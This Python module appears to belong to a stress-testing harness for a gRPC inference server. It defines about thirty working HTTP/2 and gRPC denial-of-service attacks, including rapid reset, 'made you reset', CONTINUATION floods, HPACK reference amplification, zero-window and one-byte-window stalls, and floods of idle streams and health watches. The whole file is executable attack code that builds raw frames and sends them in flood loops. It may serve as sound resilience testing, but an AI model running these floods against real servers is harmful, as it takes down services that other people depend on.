"""Floods of frames, and streams that never end."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Callable, Iterable, Iterator

from grpc_messages import infer_message
from harness import Attack, Target, drain
from wire import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    HTTP2_PREFACE,
    INITIAL_WINDOW,
    PING,
    PREFACE_WITHOUT_WINDOW,
    PRIORITY,
    PUSH,
    RESET,
    SETTINGS,
    WINDOW,
    call,
    data_frames,
    fields,
    grpc_fields,
    http2_frame,
    literal,
    message,
    streams,
)

TURN = 500  # Frames that are sent at once.
OPEN = http2_frame(HEADERS, END_HEADERS, 1, grpc_fields())
CANCEL = struct.pack(">I", 8)
ROW_OF_WIDE = infer_message("wide", "x", [1, 1], bytes(4))
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"


def same(frame: bytes, opening: bytes = b"") -> Callable[[Target], int]:
    """Returns an attack that sends one frame again and again."""
    return lambda target: target.flood(
        HTTP2_PREFACE + opening, lambda: itertools.repeat(frame * TURN), TURN
    )


def each_stream(
    frames: Callable[[int], bytes],
    *,
    opening: bytes = HTTP2_PREFACE,
    read: bool = True,
    turn: int = 50,
) -> Callable[[Target], int]:
    """Returns an attack that sends the same on one stream after the other."""

    def pieces() -> Iterator[bytes]:
        numbers = streams()
        while some := list(itertools.islice(numbers, turn)):
            yield b"".join(map(frames, some))

    return lambda target: target.flood(opening, pieces, turn, read=read)


def rapid_reset(stream: int) -> bytes:
    head = fields("/v2/health/live")
    return http2_frame(HEADERS, END_HEADERS | END_STREAM, stream, head) + http2_frame(
        RESET, 0, stream, CANCEL
    )


def rapid_reset_of_calls(stream: int) -> bytes:
    body = infer_message("slow", "x", [8, 4], bytes(128))
    return call(stream, body) + http2_frame(RESET, 0, stream, CANCEL)


def made_you_reset(stream: int) -> bytes:
    """Returns frames that make the server reset a stream that it has begun to work on."""
    return call(stream, ROW_OF_WIDE) + http2_frame(WINDOW, 0, stream, bytes(4))


def unended_heads(target: Target) -> int:
    opening = HTTP2_PREFACE + http2_frame(HEADERS, 0, 1, fields("/"))
    more = http2_frame(CONTINUATION, 0, 1, literal("a", "b" * 100))
    return target.flood(opening, lambda: itertools.repeat(more * 100), 100)


def empty_continuations(target: Target) -> int:
    opening = HTTP2_PREFACE + http2_frame(HEADERS, 0, 1, fields("/"))
    return target.flood(
        opening, lambda: itertools.repeat(http2_frame(CONTINUATION, 0, 1) * TURN), TURN
    )


def references(target: Target) -> int:
    """Sends 16,000 references to a field of 3.9 KB in each head."""
    large = http2_frame(HEADERS, 5, 1, fields("/") + literal("x", "a" * 3900, keep=True))

    def heads() -> Iterable[bytes]:
        for stream in itertools.islice(streams(), 1, None):
            yield http2_frame(HEADERS, 5, stream, fields("/") + b"\xbe" * 16_000)

    return target.flood(HTTP2_PREFACE + large, heads)


def table_sizes(stream: int) -> bytes:
    """Returns a head that grows and shrinks the table, RFC 7541 section 6.3."""
    return http2_frame(HEADERS, 5, stream, b"\x20\x3f\xe1\x1f" + fields("/v2/health/live"))


def kept_fields(stream: int) -> bytes:
    """Returns a head that adds fields to the table, each of which evicts others."""
    kept = b"".join(literal(f"x-{stream}-{number}", "v" * 50, keep=True) for number in range(20))
    return http2_frame(HEADERS, 5, stream, fields("/v2/health/live") + kept)


def zero_window(target: Target) -> int:
    """Requests answers of 1 MB and does not let them be sent."""
    calls = b"".join(call(stream, ROW_OF_WIDE) for stream in itertools.islice(streams(), 200))
    held = []
    for peer in target.connections(10):
        held.append(peer)
        try:
            peer.sendall(PREFACE_WITHOUT_WINDOW + calls)
        except OSError:
            continue
    target.wait()
    return 200 * len(held)


def small_windows(target: Target) -> int:
    """Lets one byte of each answer be sent at a time."""
    calls = b"".join(call(stream, ROW_OF_WIDE) for stream in itertools.islice(streams(), 100))
    one = struct.pack(">I", 1)
    windows = b"".join(
        http2_frame(WINDOW, 0, stream, one) for stream in itertools.islice(streams(), 100)
    )
    return target.flood(PREFACE_WITHOUT_WINDOW + calls, lambda: itertools.repeat(windows), 100)


def window_changes(target: Target) -> int:
    """Grows and shrinks the windows of all streams."""
    calls = b"".join(call(stream, ROW_OF_WIDE) for stream in itertools.islice(streams(), 500))
    changes = [
        http2_frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, size))
        for size in (0, 65_535)
    ]
    return target.flood(
        PREFACE_WITHOUT_WINDOW + calls, lambda: itertools.repeat(b"".join(changes) * 50), 100
    )


def kept_streams(target: Target) -> int:
    """Opens 1000 streams with large heads at once, then is silent."""
    more = [(f"x-{number}", "v" * 1000) for number in range(14)]
    head = fields("/v2/health/live", more=more)
    numbers = list(itertools.islice(streams(), 1000))
    held = []
    for peer in target.connections(20):
        held.append(peer)
        try:
            for stream in numbers:
                peer.sendall(http2_frame(HEADERS, END_HEADERS, stream, head))
            peer.sendall(b"".join(http2_frame(DATA, END_STREAM, stream) for stream in numbers))
            drain(peer)
        except OSError:
            continue
    target.wait()
    return len(held) * len(numbers)


def half_calls(target: Target) -> int:
    """Sends half a message on each of 1000 streams, on several connections."""
    half = message(bytes(60_000))[:30_000]
    held = []
    for peer in target.connections(20):
        held.append(peer)
        try:
            for stream in itertools.islice(streams(), 1000):
                head = http2_frame(HEADERS, END_HEADERS, stream, grpc_fields())
                peer.sendall(head + data_frames(stream, half, end=False))
                drain(peer)
        except OSError:
            continue
    target.wait()
    return 1000 * len(held)


def health_watches(target: Target) -> int:
    """Makes calls that the server holds open."""
    watch = "/grpc.health.v1.Health/Watch"
    calls = b"".join(call(stream, b"", watch) for stream in itertools.islice(streams(), 1000))
    held = []
    for peer in target.connections(50):
        held.append(peer)
        try:
            peer.sendall(HTTP2_PREFACE + calls)
        except OSError:
            continue
    target.wait()
    return 1000 * len(held)


def reflection(stream: int) -> bytes:
    """Returns a request for all that reflection knows, by file: 3 of ServerReflectionRequest."""
    symbol = b"\x22\x20" + b"inference.GRPCInferenceService"[:30].ljust(32, b"x")
    body = b"".join(message(ask) for ask in (b"\x3a\0", symbol, b"\x1a\x0agrpc.proto"))
    head = http2_frame(HEADERS, END_HEADERS, stream, grpc_fields(REFLECT))
    return head + data_frames(stream, body)


def streamed_calls(target: Target) -> int:
    """Sends messages on one ModelStreamInfer, and reads none of the answers of 1 MB."""
    head = grpc_fields("/inference.GRPCInferenceService/ModelStreamInfer")
    opening = HTTP2_PREFACE + http2_frame(HEADERS, END_HEADERS, 1, head)
    piece = data_frames(1, message(ROW_OF_WIDE), end=False)
    return target.flood(opening, lambda: itertools.repeat(piece * 20), 20, read=False)


def small_calls(stream: int) -> bytes:
    return call(stream, infer_message("double", "x", [1, 4], bytes(16)))


ATTACKS = [
    Attack("HTTP/2 rapid reset", each_stream(rapid_reset)),
    Attack("rapid reset of calls", each_stream(rapid_reset_of_calls)),
    Attack("resets that the server makes", each_stream(made_you_reset, turn=10)),
    Attack("CONTINUATION without end", unended_heads),
    Attack("empty CONTINUATION", empty_continuations),
    Attack("PING", same(http2_frame(PING, 0, 0, bytes(8)))),
    Attack("PING acknowledged unasked", same(http2_frame(PING, ACK, 0, bytes(8)))),
    Attack("SETTINGS", same(http2_frame(SETTINGS, 0, 0))),
    Attack("SETTINGS acknowledged unasked", same(http2_frame(SETTINGS, ACK, 0))),
    Attack("WINDOW_UPDATE", same(http2_frame(WINDOW, 0, 0, struct.pack(">I", 1)))),
    Attack("PRIORITY", same(http2_frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 1)))),
    Attack("GOAWAY", same(http2_frame(GOAWAY, 0, 0, bytes(8)))),
    Attack("PUSH_PROMISE", same(http2_frame(PUSH, 4, 1, struct.pack(">I", 2)), OPEN)),
    Attack("RST_STREAM of no stream", same(http2_frame(RESET, 0, 1, CANCEL), rapid_reset(1))),
    Attack("unknown frames", same(http2_frame(0x77, 0, 0, b"?"))),
    Attack("empty DATA", same(http2_frame(DATA, 0, 1), OPEN)),
    Attack("DATA of padding", same(http2_frame(DATA, 8, 1, b"\xff" + bytes(255)), OPEN)),
    Attack("16,000 HPACK references", references),
    Attack("HPACK table sizes", each_stream(table_sizes)),
    Attack("HPACK table filled", each_stream(kept_fields)),
    Attack("window shut, 200 streams", zero_window),
    Attack("window of one byte", small_windows),
    Attack("windows that change", window_changes),
    Attack("1000 streams, then idle", kept_streams),
    Attack("1000 half calls", half_calls),
    Attack("50,000 health watches", health_watches),
    Attack("gRPC reflection", each_stream(reflection, turn=10)),
    Attack("unread stream of answers", streamed_calls),
    Attack("gRPC calls", each_stream(small_calls)),
]
